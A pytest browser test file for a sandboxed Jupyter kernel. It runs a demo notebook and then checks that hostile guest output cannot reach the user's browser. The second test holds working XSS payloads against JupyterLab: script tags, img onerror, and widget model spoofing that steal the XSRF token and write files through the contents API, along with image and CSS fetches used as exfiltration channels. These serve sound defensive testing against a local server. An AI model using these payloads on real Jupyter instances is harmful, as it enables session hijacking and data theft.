"""End to end in a real browser: JupyterLab on 127.0.0.1, Debian's Chromium
driven by Playwright, the demo notebook under SmolVM Python.

Runs every cell, checks what the page shows (text, a plot, the guest's
slider, which is then moved in the browser and read back in the VM), opens
the control panel and resets the VM from it. Screenshots go to the test's
tmp dir (printed on failure).
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

CHROMIUM = "/usr/bin/chromium"
NOTEBOOK = Path(__file__).resolve().parents[2] / "notebooks" / "demo.ipynb"
# Chromium's own background traffic is refused on this network; keep it quiet.
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync",
                  "--disable-quic"]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def lab(image, tmp_path_factory):
    if not os.path.exists(CHROMIUM):
        pytest.skip("Debian's chromium is not installed (apt-get install chromium chromium-driver)")
    pytest.importorskip("playwright.sync_api", reason="pip install playwright (no browser download needed)")
    from smolvm_kernel.images import ImageCache
    from smolvm_kernel.jupyter import kernelspec

    ImageCache().ensure("scipy")
    kernelspec.install("smolvm-scipy", prefix=os.environ["SMOLVM_TEST_PREFIX"], profile="scipy", backend="qemu")
    root = tmp_path_factory.mktemp("lab")
    shutil.copy(NOTEBOOK, root / "demo.ipynb")
    # No "get notified about Jupyter news?" toast over the screenshots.
    notification = root / ".settings" / "@jupyterlab" / "apputils-extension" / "notification.jupyterlab-settings"
    notification.parent.mkdir(parents=True)
    notification.write_text('{"fetchNews": "false", "checkForUpdates": false}')
    port, token = _free_port(), secrets.token_hex(16)
    env = {**os.environ, "JUPYTERLAB_SETTINGS_DIR": str(root / ".settings"),
           "JUPYTERLAB_WORKSPACES_DIR": str(root / ".workspaces"), "JUPYTER_RUNTIME_DIR": str(root / ".runtime")}
    log = open(root / "jupyterlab.log", "wb")
    server = subprocess.Popen(
        [sys.executable, "-m", "jupyterlab", "--no-browser", "--ServerApp.ip=127.0.0.1",
         f"--ServerApp.port={port}", f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={root}",
         "--LabApp.news_url=", "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate",
         "--LabApp.extension_manager=readonly", *(["--allow-root"] if os.geteuid() == 0 else [])],
        env=env, stdout=log, stderr=subprocess.STDOUT, cwd=root)
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 90
    while True:
        try:
            urllib.request.urlopen(f"{base}/api/status?token={token}", timeout=2).read()
            break
        except OSError:
            if server.poll() is not None or time.monotonic() > deadline:
                pytest.fail("JupyterLab did not start:\n" + (root / "jupyterlab.log").read_text()[-3000:])
            time.sleep(0.5)
    yield base, token, root
    server.terminate()
    try:
        server.wait(30)
    except subprocess.TimeoutExpired:
        server.kill()
    log.close()


@pytest.fixture(scope="module")
def page(lab):
    from playwright.sync_api import sync_playwright

    base, token, root = lab
    with sync_playwright() as pw:
        context = pw.chromium.launch_persistent_context(
            str(root / "chromium-profile"), executable_path=CHROMIUM, headless=True,
            args=CHROMIUM_FLAGS, viewport={"width": 1400, "height": 1000})
        pg = context.pages[0] if context.pages else context.new_page()
        pg.set_default_timeout(60_000)
        pg.goto(f"{base}/lab/tree/demo.ipynb?token={token}")
        yield pg
        context.close()


def shot(page, root: Path, name: str) -> None:
    page.screenshot(path=str(root / f"{name}.png"), full_page=True)


@pytest.mark.timeout(900)
def test_demo_notebook_and_panel_in_a_real_browser(lab, page):
    _, _, root = lab
    from playwright.sync_api import expect

    try:
        # The kernel (SmolVM Python (scipy), from the notebook's metadata) is idle.
        page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=120_000)
        expect(page.locator(".jp-Notebook-ExecutionIndicator, .jp-Toolbar-kernelStatus").first) \
            .to_be_attached(timeout=60_000)
        page.wait_for_function(
            "() => [...document.querySelectorAll('.jp-Toolbar-kernelName')]"
            ".some(e => e.textContent.includes('SmolVM'))", timeout=120_000)

        page.get_by_role("menuitem", name="Run", exact=True).click()
        page.get_by_role("menuitem", name="Run All Cells", exact=True).click()

        # Every code cell finishes: the last one is the control panel.
        page.wait_for_selector(".smolvm-panel", timeout=300_000)
        page.wait_for_function(
            "() => ![...document.querySelectorAll('.jp-CodeCell .jp-InputPrompt')]"
            ".some(e => e.textContent.includes('*'))", timeout=300_000)
        shot(page, root, "1-all-cells-run")

        outputs = page.locator(".jp-OutputArea-output")
        expect(outputs.filter(has_text="guest kernel:")).to_contain_text("cloud-amd64")
        expect(outputs.filter(has_text="as uid 1000")).to_have_count(1)
        expect(page.locator(".jp-RenderedImage img").first).to_be_visible()
        expect(outputs.filter(has_text="network interfaces: ['lo']")).to_have_count(1)
        assert page.locator(".jp-OutputArea-output .jp-RenderedText[data-mime-type='application/vnd.jupyter.stderr']"
                            ).filter(has_text="Traceback").count() == 0

        # The guest's slider: move it in the browser, read it back in the VM.
        slider = page.locator(".widget-slider").first
        expect(slider).to_be_visible()
        expect(outputs.filter(has_text="doubled: 6")).to_have_count(1)
        handle = slider.locator(".noUi-handle")
        handle.focus()
        page.keyboard.press("ArrowRight")
        expect(slider.locator(".widget-readout")).to_have_text("4")
        value_cell = page.locator(".jp-CodeCell").filter(has_text="slider value inside the VM").first
        value_cell.locator(".jp-InputArea-editor").click()
        page.keyboard.press("Shift+Enter")
        expect(outputs.filter(has_text="doubled: 8")).to_have_count(1, timeout=60_000)

        # The host's control panel: live state, then Reset with confirmation.
        panel = page.locator(".smolvm-panel")
        panel.scroll_into_view_if_needed()
        expect(panel.locator(".smolvm-state-ready")).to_be_visible(timeout=60_000)
        expect(panel.locator(".smolvm-details")).to_contain_text("MiB used of", timeout=30_000)

        # A checkpoint with the slider at 4, the slider moved to 5, then the
        # checkpoint restored from the panel: the slider on the page keeps
        # working (its model is in the restored VM, at 4) and the page shows
        # no error.
        errors: list[str] = []
        page.on("pageerror", lambda exc: errors.append(f"pageerror: {exc}"))
        page.on("console", lambda m: errors.append(f"console: {m.text}") if m.type == "error" else None)
        panel.locator(".smolvm-checkpoint").click()
        expect(panel.locator(".smolvm-message")).to_contain_text("saved in", timeout=60_000)
        slider.scroll_into_view_if_needed()
        handle.focus()
        page.keyboard.press("ArrowRight")
        expect(slider.locator(".widget-readout")).to_have_text("5")
        panel.scroll_into_view_if_needed()
        listing = panel.locator(".smolvm-checkpoint-list select")
        expect(listing.locator("option")).not_to_have_count(0, timeout=30_000)
        listing.select_option(index=0)           # the newest: the one just taken
        panel.locator(".smolvm-restore").click()
        expect(panel.locator(".smolvm-confirm-text")).to_contain_text("Restore replaces")
        panel.locator(".smolvm-confirm").click()
        expect(panel.locator(".smolvm-message")).to_contain_text("restored", timeout=120_000)
        expect(panel.locator(".smolvm-state-ready")).to_be_visible(timeout=60_000)
        shot(page, root, "2a-after-restore")
        value_cell.locator(".jp-InputArea-editor").click()
        page.keyboard.press("Shift+Enter")
        expect(value_cell.locator(".jp-OutputArea-output")).to_contain_text("doubled: 8", timeout=60_000)
        slider.scroll_into_view_if_needed()
        handle.focus()
        page.keyboard.press("ArrowRight")        # the page's 6 reaches the restored VM's model
        value_cell.locator(".jp-InputArea-editor").click()
        page.keyboard.press("Shift+Enter")
        expect(value_cell.locator(".jp-OutputArea-output")).to_contain_text("doubled: 12", timeout=60_000)
        assert errors == [], errors
        panel.scroll_into_view_if_needed()
        panel.locator(".smolvm-delete").click()           # the checkpoint goes: it is the user's, on disk
        expect(panel.locator(".smolvm-confirm-text")).to_contain_text("Delete removes")
        panel.locator(".smolvm-confirm").click()
        expect(panel.locator(".smolvm-message")).to_contain_text("removed checkpoint", timeout=30_000)
        page.evaluate("""() => {
            window.__smolvmStates = [];
            const el = document.querySelector('.smolvm-panel .smolvm-state');
            new MutationObserver(() => {
                const s = el.querySelector('[class^=smolvm-state-]');
                if (s) window.__smolvmStates.push(s.className.replace('smolvm-state-', ''));
            }).observe(el, {subtree: true, childList: true, characterData: true});
        }""")
        panel.locator(".smolvm-reset").click()
        expect(panel.locator(".smolvm-confirm-text")).to_contain_text("Everything in it is lost")
        shot(page, root, "2-reset-confirmation")
        panel.locator(".smolvm-confirm").click()
        page.wait_for_function("() => window.__smolvmStates.includes('booting')", timeout=30_000)
        expect(panel.locator(".smolvm-state-ready")).to_be_visible(timeout=180_000)
        expect(panel.locator(".smolvm-message")).to_contain_text("resetting")
        shot(page, root, "3-after-reset")
        # The fresh VM no longer has the notebook's variables.
        value_cell.locator(".jp-InputArea-editor").click()
        page.keyboard.press("Shift+Enter")
        expect(value_cell.locator(".jp-OutputArea-output")).to_contain_text("NameError", timeout=60_000)
        shot(page, root, "4-fresh-vm")

        # Save, reload the page: the host's panel is restored from the kernel
        # next to the guest's widgets (not "model not found").
        page.keyboard.press("Control+s")
        page.wait_for_function("() => !document.querySelector('.jp-mod-dirty')", timeout=30_000)
        page.reload()
        page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=120_000)
        panel = page.locator(".smolvm-panel")
        panel.scroll_into_view_if_needed(timeout=60_000)
        expect(panel.locator(".smolvm-state-ready")).to_be_visible(timeout=60_000)
        expect(panel.locator(".smolvm-details")).to_contain_text("MiB used of", timeout=30_000)
        shot(page, root, "5-after-reload")
    except BaseException:   # pytest-timeout's too
        shot(page, root, "failure")
        print(f"screenshots and jupyterlab.log in {root}")
        raise


# ------------------------------------------------------------ a hostile guest

#: The attacks that, if they ran, would write pwned-<tag>.txt into the server's
#: root through the contents API with the user's session (as the confirmed
#: escape did); the commandlinker button would create untitled.txt.
JS_VECTORS = {
    "js": "a JavaScript output",
    "script": "a <script> in HTML",
    "onerror": "an <img onerror> in HTML",
    "mdhtml": "raw HTML (<img onerror>) in Markdown",
    "htmlview": "a Label widget shown by _view_name='HTMLView'",
    "listvalue": "an HTML widget whose value is a one-element list",
    "states": "update_states whose OUTER model_name (HTMLModel) the frontend uses, not the state's",
}
#: The attacks that, if they ran, would make the browser fetch
#: http://127.0.0.1:<port>/<tag> from the test's own server: guest data out
#: through the browser, from a VM with network='none'.
FETCH_VECTORS = {
    "mdimg": "a remote image in Markdown",
    "htmlimg": "a remote <img> in HTML",
    "imageurl": "an Image widget with format='url'",
    "style": "an HTML widget whose style.background is url(...)",
}

_PRELUDE = '''from IPython.display import display, HTML, Javascript, SVG, Markdown
import ipywidgets as w
from traitlets import Unicode, List
URL = %r
def js(tag):
    return ("(async()=>{const x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
            "await fetch('/api/contents/pwned-%%s.txt',{method:'PUT',headers:{'X-XSRFToken':x,"
            "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',"
            "content:'pwned'})});(window.__pwned=window.__pwned||[]).push('%%s')})()" %% (tag, tag))
def img(tag):
    return '<img src="x" onerror="' + js(tag) + '">\''''

# The control comm's answer (when the page reloads) makes this Label an
# HTMLModel, whose default view is HTMLView: the frontend uses the OUTER model_name.
_STATES = '''import ipywidgets.widgets.widget as ww
placeholder = w.Label("states placeholder")
display(placeholder)
@classmethod
def answer(cls, msg):
    states = {k: {"model_name": x._model_name, "model_module": x._model_module,
                  "model_module_version": x._model_module_version, "state": x.get_state()}
              for k, x in ww._instances.items()}
    st = states[placeholder.model_id]["state"]
    st.pop("_model_name"); st.pop("_view_name")
    st["value"] = img('states')
    states[placeholder.model_id]["model_name"] = "HTMLModel"
    states, paths, buffers = ww._remove_buffers(states)
    cls._control_comm.send({"method": "update_states", "states": states, "buffer_paths": paths}, buffers=buffers)
ww.Widget._handle_control_comm_msg = answer'''

_EVIL = '''class Evil(w.DOMWidget):
    _model_module = Unicode("evil-widget-module").tag(sync=True)
    _view_module = Unicode("evil-widget-module").tag(sync=True)
    _model_name = Unicode("EvilModel").tag(sync=True)
    _view_name = Unicode("EvilView").tag(sync=True)
display(Evil())'''


def _hostile_cells(port: int) -> list[str]:
    return [
        _PRELUDE % f"http://127.0.0.1:{port}/",
        "display(Javascript(js('js')))",
        "display(HTML('<script>' + js('script') + '</script><b>after the script</b>'))",
        "display(HTML(img('onerror')))",
        "display(HTML('<button data-commandlinker-command=\"docmanager:new-untitled\" "
        "data-commandlinker-args=\\'{\"path\": \"\", \"type\": \"file\", \"ext\": \".txt\"}\\'>"
        "new file (commandlinker)</button>'))",
        "display(Markdown('# md heading\\n\\n' + img('mdhtml')))",
        "class HV(w.Label):\n    _view_name = Unicode('HTMLView').tag(sync=True)\n"
        "display(HV(value=img('htmlview') + 'htmlview label'))",
        "class LV(w.HTML):\n    value = List().tag(sync=True)\ndisplay(LV(value=[img('listvalue')]))",
        _STATES,
        "display(Markdown('![md image](' + URL + 'mdimg)'))",
        "display(HTML('<img src=\"' + URL + 'htmlimg\">'))",
        "display(w.Image(value=(URL + 'imageurl').encode(), format='url'))",
        "display(w.HTML('styled', style={'background': 'url(' + URL + 'style)'}))",
        # Not vectors: a widget module JupyterLab would not load itself (the
        # note is checked), an SVG and a DataFrame (shown safely).
        _EVIL,
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"10\" onload=\"' + js('svg') + "
        "'\"><rect width=\"40\" height=\"10\" fill=\"teal\"/></svg>'))",
        "import pandas as pd\npd.DataFrame({'a': [1, 2], 'b': ['x', 'y']})",
        "print('all attacks sent')",
    ]


def _hostile_notebook(path: Path, kernel: str, port: int) -> None:
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(src) for src in _hostile_cells(port)]
    nbformat.write(nb, str(path))


@pytest.fixture
def exfil_server():
    """A server on 127.0.0.1 that records the paths the browser asks it for."""
    import http.server
    import threading

    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.path.strip("/"))
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], seen
    server.shutdown()
    server.server_close()


def _run_hostile(page, base: str, token: str, name: str) -> None:
    from playwright.sync_api import expect

    # A workspace of its own: only this notebook is open, so "Run All" is its.
    workspace = name.replace(".", "-")
    active = ".jp-NotebookPanel:not(.lm-mod-hidden)"

    def open_notebook():
        page.goto(f"{base}/lab/workspaces/{workspace}/tree/{name}?token={token}")
        page.wait_for_selector(f"{active} .jp-Notebook .jp-Cell", timeout=120_000)
        page.wait_for_function(
            f"() => [...document.querySelectorAll('{active} .jp-Toolbar-kernelName')]"
            ".some(e => e.textContent.includes('SmolVM'))", timeout=120_000)

    open_notebook()
    page.locator(f"{active} .jp-Cell").first.click()
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
    outputs = page.locator(f"{active} .jp-OutputArea-output")
    expect(outputs.filter(has_text="all attacks sent")).to_have_count(1, timeout=300_000)
    target = outputs.get_by_text("new file (commandlinker)")
    if target.count():
        target.first.click()
    time.sleep(3)
    # Save and reload: the widget manager asks the kernel for its widgets
    # (request_states) and builds them from the answer (the "states" vector).
    page.keyboard.press("Control+s")
    page.wait_for_function("() => !document.querySelector('.jp-mod-dirty')", timeout=30_000)
    open_notebook()
    expect(outputs.filter(has_text="all attacks sent")).to_have_count(1, timeout=60_000)
    time.sleep(8)     # anything that runs has had the time to write its file or fetch its URL


@pytest.mark.timeout(1200)
def test_hostile_outputs_do_not_run_in_the_browser(lab, page, exfil_server):
    """Every way a cell in the VM could run code in the user's browser (and so
    reach the Jupyter server as the user), or make the browser fetch a URL
    (guest data out of a VM that has no network), is tried: none works under
    the default policy. The same notebook under output_policy='trusted' is the
    control: there every one of them works, so this check can fail."""
    from urllib.parse import urlsplit

    from playwright.sync_api import expect

    from smolvm_kernel.jupyter import kernelspec

    base, token, root = lab
    port, fetched = exfil_server
    elsewhere: list[str] = []     # the network rule: the browser talks to 127.0.0.1 only

    def on_request(request):
        if not request.url.startswith(("data:", "blob:")) and urlsplit(request.url).hostname != "127.0.0.1":
            elsewhere.append(request.url)

    page.context.on("request", on_request)
    kernelspec.install("smolvm-trusted", prefix=os.environ["SMOLVM_TEST_PREFIX"], profile="scipy",
                       backend="qemu", output_policy="trusted")
    _hostile_notebook(root / "hostile.ipynb", "smolvm-scipy", port)
    _hostile_notebook(root / "hostile-trusted.ipynb", "smolvm-trusted", port)

    def written() -> set[str]:
        return {p.name for p in root.iterdir() if p.name.startswith(("pwned-", "untitled"))}

    try:
        _run_hostile(page, base, token, "hostile.ipynb")
        shot(page, root, "6-hostile-safe")
        ran = sorted(written()) + [f"fetched /{path}" for path in fetched]
        assert ran == [], f"guest output ran in the browser or fetched through it: {ran}"
        assert page.evaluate("() => window.__pwned === undefined")
        outputs = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output")
        expect(outputs.filter(has_text="blocked application/javascript")).to_have_count(1)
        expect(outputs.filter(has_text="evil-widget-module")).to_have_count(1)
        expect(outputs.filter(has_text='format="url"')).to_have_count(1)          # the Image widget
        expect(outputs.filter(has_text="whose value is not a string")).to_have_count(1)   # the list value
        expect(outputs.filter(has_text="after the script")).to_have_count(1)      # safe HTML still shows
        expect(outputs.locator("h1").filter(has_text="md heading")).to_have_count(1)   # and Markdown
        expect(outputs.filter(has_text="htmlview label")).to_have_count(1)        # and the label's text
        expect(outputs.locator("table td").filter(has_text="y")).to_have_count(1)  # and a DataFrame
        expect(outputs.locator("img[src^='data:image/svg+xml']")).to_have_count(1)  # the SVG, as an image

        _run_hostile(page, base, token, "hostile-trusted.ipynb")
        shot(page, root, "7-hostile-trusted-control")
        # Every vector works when the policy lets it through (the escape this
        # test guards against): the control set is exact, so each one counts.
        assert written() == {f"pwned-{tag}.txt" for tag in JS_VECTORS} | {"untitled.txt"}, \
            f"the control did not show exactly the JS attacks working: {sorted(written())}"
        assert set(fetched) == set(FETCH_VECTORS), \
            f"the control did not show exactly the fetches working: {sorted(set(fetched))}"
        assert elsewhere == [], f"the browser reached beyond 127.0.0.1: {elsewhere}"
    except BaseException:
        shot(page, root, "failure-hostile")
        print(f"screenshots and jupyterlab.log in {root}")
        raise
